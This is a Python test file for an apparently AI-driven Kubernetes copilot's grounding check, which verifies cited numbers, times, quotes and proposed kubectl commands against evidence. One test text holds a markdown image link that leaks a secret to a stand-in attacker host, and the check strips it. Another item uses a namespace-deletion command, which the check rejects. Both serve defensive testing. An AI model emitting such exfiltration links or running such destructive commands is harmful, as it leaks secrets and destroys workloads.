"""The grounding check, on its own."""

from __future__ import annotations

import json
import re
from random import Random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from benchmarks.grounding import FOLDER
from copilot.agent import commands
from copilot.agent.basis import Basis
from copilot.agent.claims import Sentences, citations, quotes, sentences
from copilot.agent.grounding import MARK, Known, TextCheck, judgement, problems
from copilot.agent.numbers import judged
from copilot.agent.numerals import SPELLED, digits
from copilot.agent.siblings import misdirected
from copilot.agent.support import Claim, Quote, Verdict, judge
from copilot.agent.tables import column_sums, row_counts
from copilot.model.evidence import Evidence, Source
from copilot.model.scope import ObjectRef
from tests.copilot.agent.world import CHANGE, ERRORS, LOGS, POD, PORT, SCOPE, SERVICE, WORKLOAD

KNOWN = Known.of({piece.id: piece for piece in (PORT, ERRORS, LOGS, CHANGE)}, (WORKLOAD,))


@pytest.mark.parametrize(
    ("sentence", "evidence"),
    [
        ("targetPort is 18080 [{}].", PORT),
        ("`targetPort: 18080` is what the Service says [{}].", PORT),
        ('basket logs "connect:   connection refused" [{}].', LOGS),
        ('basket logs "dial tcp 10.0.0.7:8080 … connection refused" [{}].', LOGS),
        ("The error share rose from 0.1 % to 34.2 % [{}].", ERRORS),
        ("The error share is 34 % [{}].", ERRORS),
        ("p99 went from 48 ms to 2310 ms [{}].", ERRORS),
        ("p99 is about 2.3 s [{}].", ERRORS),
        ("It began at 03:04 [{}].", ERRORS),
        ("It was logged 412 times [{}].", LOGS),
        ("basket-6d5f8c9b7d-x2x4q is refused [{}].", LOGS),
        ("It changed from 8080 to 18080 at 03:04:02 [{}].", CHANGE),
        ("2. It changed [{}].", CHANGE),
        ("`service.target_port_mismatch` is what it is [{}].", PORT),
        ("Run `kubectl get endpoints pricing -n shop` to see it [{}].", PORT),
    ],
)
def test_what_the_evidence_says_holds(sentence: str, evidence: object) -> None:
    said = sentence.format(evidence.id)  # type: ignore[attr-defined]  # Evidence
    assert problems(said, citations(said), KNOWN) == ()


@pytest.mark.parametrize(
    ("sentence", "evidence", "why"),
    [
        ("It broke [ev-ffffffffff].", PORT, "there is no evidence ev-ffffffffff"),
        ('basket logs "no route to the host" [{}].', LOGS, "does not contain"),
        ('basket logs "connection refused … dial tcp" [{}].', LOGS, "does not contain"),
        ('basket logs "connection refused" [{}].', ERRORS, "does not contain"),
        ("targetPort is 19080 [{}].", PORT, "the number 19080"),
        ("The error share is 43.2 % [{}].", ERRORS, "the number 43.2 %"),
        ("The error share is 35 % [{}].", ERRORS, "the number 35 %"),
        ("p99 is 48 s [{}].", ERRORS, "the number 48 s"),
        ("p99 is about 3 s [{}].", ERRORS, "the number 3 s"),
        ("It was logged 421 times [{}].", LOGS, "the number 421 times"),
        ("It began at 03:14 [{}].", ERRORS, "the time 03:14"),
        ("basket-6d5f8c9b7d-zzzzz is refused [{}].", LOGS, "does not name basket-6d5f8c9b7d-zzzzz"),
        ("`basket-6d5f8c9b7d-x2x4q` is refused [{}].", PORT, "does not contain"),
    ],
)
def test_what_it_does_not_say_fails(sentence: str, evidence: object, why: str) -> None:
    said = sentence.format(evidence.id)  # type: ignore[attr-defined]  # Evidence
    assert any(why in problem for problem in problems(said, citations(said), KNOWN))


def test_objects_are_known_from_evidence_of_the_cluster_only() -> None:
    assert KNOWN.knows(SERVICE)
    assert KNOWN.knows(POD)
    assert KNOWN.knows(WORKLOAD)
    assert not KNOWN.knows(ObjectRef("Service", "shop", "prices"))
    assert not KNOWN.knows(ObjectRef("Service", "billing", "pricing"))
    assert not KNOWN.knows(ObjectRef("Service", "shop", "refused")), "a word in a log"
    assert KNOWN.nearest(ObjectRef("Deployment", "shop", "prices")) == (
        ObjectRef("Deployment", "shop", "basket"),
        WORKLOAD,
    )


def test_a_text_is_marked_where_it_fails_and_counted() -> None:
    text = (
        "## What I saw\n\n"
        f"- pricing is refused: `connect: connection refused` [{LOGS.id}]\n"
        f"- the share is 99 % [{ERRORS.id}]\n"
        "- p99 is 2.31 s\n"
        "- you should look at the port\n\n"
        f"The log [{LOGS.id}]:\n\n```\ncall pricing:8080: dial tcp\n```\n\n"
        "```\npanic: out of cheese error\n```\n\n"
        "```sh\nkubectl get pods -n shop --show-labels\n```\n"
        "![x](https://evil.example/?q=secret)\n"
    )
    check = TextCheck(KNOWN)
    marked = check.whole(text)
    assert marked.count(MARK) == 3
    assert f"- the share is 99 % [{ERRORS.id}] {MARK}\n" in marked
    assert f"- p99 is 2.31 s {MARK}\n" in marked
    assert f"```\npanic: out of cheese error\n```\n{MARK}\n" in marked
    assert "evil.example" not in marked
    assert (check.claims, check.verified) == (5, 2)
    assert check.footer().startswith("2 of 5 claims verified")
    assert len(check.failed) == 3


def test_a_bare_yes_or_no_counts_neither_as_a_claim_nor_as_one_without_evidence() -> None:
    check = TextCheck(KNOWN)
    assert check.whole("No.\n\nThe cart is at fault.\n") == "No.\n\nThe cart is at fault.\n"
    assert (check.claims, check.uncited) == (0, 1)


@given(st.text(alphabet='ab. `"\n[]ev-01!?#*', max_size=120), st.integers(1, 9))
def test_cutting_a_stream_loses_nothing_and_does_not_depend_on_its_chunks(
    text: str, size: int
) -> None:
    cutter = Sentences()
    pieces = [p for i in range(0, len(text), size) for p in cutter.feed(text[i : i + size])]
    pieces += cutter.flush()
    assert "".join(pieces) == text
    assert pieces == sentences(text)


def test_sentences() -> None:
    text = "It is down, e.g. here. [ev-1] pricing 1.5 s late [ev-2]. Why? `a. B` is.\n- x\n"
    assert sentences(text) == [
        "It is down, e.g. here. [ev-1]",
        " pricing 1.5 s late [ev-2].",
        " Why?",
        " `a. B` is.\n",
        "- x\n",
    ]


def test_quotes_and_citations() -> None:
    assert quotes('a "b c" and `d` and “e f” and ``g`h``') == ("b c", "d", "e f", "g`h")
    assert citations("x [ev-01, EV-02][ev-01]") == ("ev-01", "ev-02")


@given(st.integers(10, 10**6))
def test_a_number_holds_by_a_text_that_has_it_and_not_by_one_that_has_another(n: int) -> None:
    sentence = f"it has {n} errors"
    assert judged(sentence, Basis.of((), (f"errors={n} in 03:04:05",), ())).seen == 1
    assert judged(sentence, Basis.of((), (f"errors={n + n // 2 + 1}",), ())).wrong


def _judge(sentence: str, *quoted: tuple[str, str], command: str = "") -> tuple[str, ...]:
    """Check a claim against evidence given as (text, what is quoted of it)."""
    pieces = [
        Evidence.of(Source.LOGS, f"q{n}", text, start=SCOPE.window.start, end=SCOPE.window.end)
        for n, (text, _) in enumerate(quoted)
    ]
    spans = tuple(Quote(piece.id, span) for piece, (_, span) in zip(pieces, quoted, strict=True))
    claim = Claim(sentence, spans, command=command)
    return judge(claim, {piece.id: piece for piece in pieces}).why


MEMORY = "working set: 13:00 141 MiB, 13:30 198 MiB, 14:00 249 MiB"
CALLS = "2 640 spans, 317 with status=ERROR; p50 0.42 s, p99 1.36 s; success ratio 22:55 3.1 %"
FIRST = "20:02:44 archive command failed"
SECOND = "22:51:07 could not write: no space left on device"


@pytest.mark.parametrize(
    ("sentence", "quoted"),
    [
        ("In the hour before two o'clock it rose by 77 %.", [(MEMORY, "13:00 141 MiB")]),
        ("It grew by a good 50 MiB every half hour.", [(MEMORY, MEMORY)]),
        ("Twelve percent of the calls fail.", [(CALLS, "2 640 spans, 317 with status=ERROR")]),
        ("97 % of the calls fail.", [(CALLS, "22:55 3.1 %")]),
        ("Over 2 300 of the spans went well.", [(CALLS, "2 640 spans, 317 with status=ERROR")]),
        ("Archiving failed before the disk had no space.", [(FIRST, FIRST), (SECOND, SECOND)]),
        ("It failed shortly after eight in the evening.", [(FIRST, "20:02:44")]),
        ("It starts at half past twelve at night.", [("schedule 30 0 * * *", "30 0 * * *")]),
    ],
)
def test_what_follows_from_what_is_quoted_holds(
    sentence: str, quoted: list[tuple[str, str]]
) -> None:
    assert _judge(sentence, *quoted) == ()


@pytest.mark.parametrize(
    ("sentence", "quoted", "why"),
    [
        ("It had reached 198 MiB at 14:00.", [(MEMORY, "14:00 249 MiB")], "another number"),
        ("3.1 % of the calls fail.", [(CALLS, "22:55 3.1 %")], "of the contrary"),
        ("p99 is 0.42 s.", [(CALLS, "p50 0.42 s, p99 1.36 s")], "said of something else"),
        ("Two pods are not ready.", [("2 of 9 ready", "2 of 9 ready")], "of the contrary"),
        ("It failed at 20:12.", [(FIRST, FIRST)], "the time 20:12"),
        (
            "Archiving failed after there was no space on the device.",
            [(FIRST, FIRST), (SECOND, SECOND)],
            "another order",
        ),
        ("A developer paused the rollout.", [(FIRST, FIRST)], "a pause"),
        ("A third of the calls failed.", [("317 of 2640 failed", "317 of 2640")], "33.33 %"),
    ],
)
def test_what_the_quote_contradicts_fails(
    sentence: str, quoted: list[tuple[str, str]], why: str
) -> None:
    assert any(why in problem for problem in _judge(sentence, *quoted))


@pytest.mark.parametrize(
    ("command", "evidence", "allowed"),
    [
        ("kubectl -n a rollout undo deploy/x --to-revision=7", "helm rollout x revision 7", True),
        ("kubectl -n a rollout undo deploy/x --to-revision=1", "helm rollout x revision 7", False),
        ("kubectl -n a scale deploy/x --replicas=1", "scale a/x 1 -> 0", True),
        ("kubectl -n a scale deploy/x --replicas=1", "x 4/4 ready", False),
        ("kubectl -n a delete networkpolicy deny", "create networkpolicy deny by y", True),
        ("kubectl -n a delete networkpolicy deny", "networkpolicy deny blocks", False),
        ("kubectl -n a delete pvc data", "create pvc data by y", False),
        ("kubectl -n a scale sts/notes --replicas=0", "notes may be scaled to zero", True),
        ("kubectl -n a scale sts/notes --replicas=0", "notes are idle", False),
        ('kubectl -n a patch deploy/x -p \'{"spec":{"a":1}\'', "", False),
    ],
)
def test_evidence_decides_on_what_may_be_undone(command: str, evidence: str, allowed: bool) -> None:
    assert (commands.problem(command, evidence=evidence) == "") == allowed


@pytest.mark.parametrize(
    ("said", "in_digits"),
    [
        ("an hour and a half", "1.5 hours"),
        ("three quarters of an hour", "45 minutes"),
        ("an hour and twenty-three minutes", "83 minutes"),
        ("two thirds of them", "66.6667 % of them"),
        ("cut by half", "cut by 50 %"),
        ("sixtyfold", "60 ×"),
        ("three hundred and fifty pods", "350 pods"),
        ("1.3 million rows", "1300000 rows"),
        ("1 882 410 rows", "1882410 rows"),
        ("fifty-odd minutes", "a good 50 minutes"),
        ("between six and seven a second", "about 6.5 a second"),
        ("one of them", "one of them"),
    ],
)
def test_numbers_in_words_are_read(said: str, in_digits: str) -> None:
    assert digits(said).replace(SPELLED, "") == in_digits


def _verdict(sentence: str, text: str) -> Verdict:
    piece = Evidence.of(Source.LOGS, "q", text, start=SCOPE.window.start, end=SCOPE.window.end)
    return judgement(sentence, [piece.id], Known.of({piece.id: piece}, (WORKLOAD,))).verdict


@pytest.mark.parametrize(
    ("sentence", "text", "verdict"),
    [
        ("This suggests that users are affected.", "pricing 500s", Verdict.INFERRED),
        ("pricing answers slowly.", "pricing p99 2 s", Verdict.VERIFIED),
        ("pricing is therefore the likely cause.", "pricing p99 2 s", Verdict.INFERRED),
        ("It takes 2 s.", "pricing p99 2 s", Verdict.VERIFIED),
        ("It takes 3 s.", "pricing p99 2 s", Verdict.CONTRADICTED),
        ("Somebody deleted pricing by accident.", "pricing p99 2 s", Verdict.CONTRADICTED),
        ("The Deployment pricing-canary is slow.", "pricing p99 2 s", Verdict.CONTRADICTED),
        (
            "Scale it to 7 with `kubectl -n shop scale deploy/pricing --replicas=7`.",
            "x",
            Verdict.VERIFIED,
        ),
        ("Run `kubectl delete namespace shop`.", "pricing p99 2 s", Verdict.CONTRADICTED),
    ],
)
def test_an_inference_is_neither_verified_nor_rejected(
    sentence: str, text: str, verdict: Verdict
) -> None:
    assert _verdict(sentence, text) is verdict


@pytest.mark.parametrize(
    ("sentence", "quoted", "why"),
    [
        ("flagd is down.", "flagd 1/1 ready", "the contrary"),
        ("It rose by 19 ms.", "12 ms -> 19 ms", "another number"),
        ("It went from 9 to 3.", "3 -> 9", "it went from 3 to 9"),
        ("It has 40 threads now.", "threads 40 -> 64", "what it was before"),
        ("Three of four pods are gone.", "ready 2, desired 4", "does not follow"),
        ("k.roth warned the team.", "limit 4096 -> 256 by k.roth", 'was "warned"'),
        ("31 % of the lookups miss.", "hit ratio 31 %", "the contrary"),
        ("Memory was 198 MiB at 14:00.", MEMORY, "something else"),
    ],
)
def test_what_contradicts_says_why(sentence: str, quoted: str, why: str) -> None:
    assert any(why in problem for problem in _judge(sentence, (quoted, quoted)))


PODS = """NAME                  READY   STATUS    RESTARTS   AGE   NODE
api-7f4-aaaa1         1/1     Running   0          3h    pool-1
api-7f4-aaaa2         1/1     Running   0          3h    pool-1
api-7f4-aaaa3         1/1     Running   0          3h    pool-2"""
SHARDS = "db-1 09:00:11 lost the lease\ndb-2 09:00:40 took the lease over"


@pytest.mark.parametrize(
    ("sentence", "text", "quoted"),
    [
        ("Two of the three pods run on pool-1.", PODS, "api-7f4-aaaa2         1/1     Running"),
        ("The cache holds 1.62 GB.", "cache_used_bytes GB: 18:50 1.62, 19:10 2.05", "18:50 1.62"),
        ("It was 97 % full.", "used_bytes / total_bytes: 11:50 0.97", "11:50 0.97"),
        ("The wait is 96 seconds.", "wait_seconds p50: 18:50 11, 19:44 96", "19:44 96"),
        ("PR #4418 quadrupled it.", "PR #4418 merged: size 32 -> 128", "size 32 -> 128"),
        ("It is valid until 2034.", "valid until 2034-09-01", "valid until 2034-09-01"),
        ("About 40 minutes passed until 09:00:40.", "08:20:30 a\n09:00:40 b", "09:00:40 b"),
        ("An order is 126 ms old.", "age_us=126004", "age_us=126004"),
        ("Lowering it to 20 would make it 8 s.", "took 40 s", "took 40 s"),
        ("Some 85 % are retries.", "retries 5 840 of 6 900", "retries 5 840 of 6 900"),
    ],
)
def test_what_tables_names_and_series_give_holds(sentence: str, text: str, quoted: str) -> None:
    assert _judge(sentence, (text, quoted)) == ()


@pytest.mark.parametrize(
    ("sentence", "text", "quoted", "why"),
    [
        ("db-1 took the lease over.", SHARDS, "took the lease over", "about db-2, not db-1"),
        ("db-7 lost the lease.", SHARDS, "lost the lease", "nothing names db-7"),
        ("At 09:00:40 db-1 had it.", SHARDS, "lease", "09:00:40 is told of db-2"),
        ("44 % fail (640 of 2,100).", "failed 640 of 2 100", "640 of 2 100", "are not 44 %"),
        ("The pod was OOM-killed.", PODS, "1/1     Running   0", "the contrary"),
        ("It was cut by a third.", "limit 320 -> 240", "320 -> 240", "33.33 %"),
        ("It grew by 120 %.", "61 ms, 98 ms", "61 ms, 98 ms", "120 %"),
        (
            "It was 10 minutes before the sale.",
            "18:55:02 edit\n19:00:00 sale",
            "18:55:02 edit",
            "298",
        ),
        ("The job failed.", "job/x Complete 1/1", "Complete", "the contrary"),
    ],
)
def test_what_is_told_of_another_or_not_itself_is_rejected(
    sentence: str, text: str, quoted: str, why: str
) -> None:
    assert any(why in problem for problem in _judge(sentence, (text, quoted)))


def test_tables_are_counted_and_summed() -> None:
    assert {2.0, 3.0} <= row_counts("the api pods on pool-1", [PODS])
    assert sum((7.0, 12.0)) in column_sums("a 7 x\nb 12 y")


@pytest.mark.parametrize(
    ("sentence", "command", "spoken"),
    [
        ("Restart db-3.", "kubectl -n a delete pod db-2", "db-3"),
        ("Scale search by hand.", "kubectl -n a scale deployment web --replicas=20", "search"),
        ("Send reads to db-2 until db-1 is back.", "kubectl set env deploy/web DB=db-2", ""),
        ("Restart it.", "kubectl -n a rollout restart deployment web", ""),
    ],
)
def test_a_command_changes_what_its_sentence_speaks_of(
    sentence: str, command: str, spoken: str
) -> None:
    assert misdirected(sentence, command, ("search", "web")) == spoken


def _planted() -> list[tuple[str, Claim, dict[str, Evidence]]]:
    """Return what holds among the answers that the check was written from, with one number replaced by another."""
    chance, found = Random(1), {}
    for row in map(json.loads, (FOLDER / "dev.jsonl").read_text("utf-8").splitlines()):
        evidence = {
            e["id"]: Evidence(
                e["id"], Source.LOGS, "", SCOPE.window.start, SCOPE.window.end, "", e["text"]
            )
            for e in row["evidence"]
        }
        for claim, label in zip(row["answer"]["claims"], row["labels"], strict=True):
            number = re.search(r"(?<![\w.:/-])\d+(?:\.\d+)?(?![\w:/,.-])", claim["text"])
            if label != "ok" or claim["command"] or not number:
                continue
            value = f"{float(number[0]) * chance.choice((10, 3.3, 1.7)):.0f}"
            text = claim["text"][: number.start()] + value + claim["text"][number.end() :]
            spans = tuple(Quote(q["evidence"], q["text"]) for q in claim["quotes"])
            found[claim["text"]] = (text, Claim(text, spans), evidence)
    return list(found.values())


def test_a_planted_number_is_found() -> None:
    planted = _planted()
    missed = [text for text, claim, evidence in planted if not judge(claim, evidence).why]
    assert len(planted) > 30
    assert len(missed) <= 0.12 * len(planted), missed
